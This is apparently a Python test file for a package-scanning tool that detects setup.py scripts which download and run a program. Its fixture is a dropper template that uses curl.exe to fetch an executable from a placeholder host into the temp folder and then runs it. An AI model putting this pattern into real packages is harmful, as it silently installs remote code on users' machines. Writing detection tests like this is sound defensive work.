"""A program downloaded by a started process (an argument list, not one command string), then run."""

from __future__ import annotations

from featurepkgs import make_archive
from vetpy.features.extract import extract_features

DROPPER = (
    "import os, subprocess\n"
    "path = os.environ['TEMP'] + '\\\\a.exe'\n"
    "tool = os.environ['WINDIR'] + '\\\\system32\\\\curl.exe'\n"
    "subprocess.call([tool, '{url}', '-o', path])\n"
    "{then}"
    "from setuptools import setup\n"
    "setup(name='demo')\n"
)


def features(url: str, then: str) -> tuple[float, str]:
    f = extract_features(make_archive({"setup.py": DROPPER.format(url=url, then=then)}))
    return f.values["code.download_exec"], f.code_text


def test_download_by_curl_in_a_list_then_run_is_download_and_run() -> None:
    value, tokens = features("https://files.example.net/s/x/payload.exe?dl=0", "subprocess.call([path])\n")
    assert value > 0
    assert "flow:spawned_download" in tokens.split() and "flow:download_and_run" in tokens.split()


def test_fetching_a_program_without_running_anything_else_is_only_a_token() -> None:
    value, tokens = features("https://files.example.net/payload.exe", "")
    assert value == 0 and "flow:spawned_download" in tokens.split()


def test_fetching_data_files_is_not_a_program_download() -> None:
    value, tokens = features(
        "https://models.example.net/weights.bin", "subprocess.call(['tar', 'x', path])\n"
    )
    assert value == 0 and "flow:spawned_download" not in tokens.split()
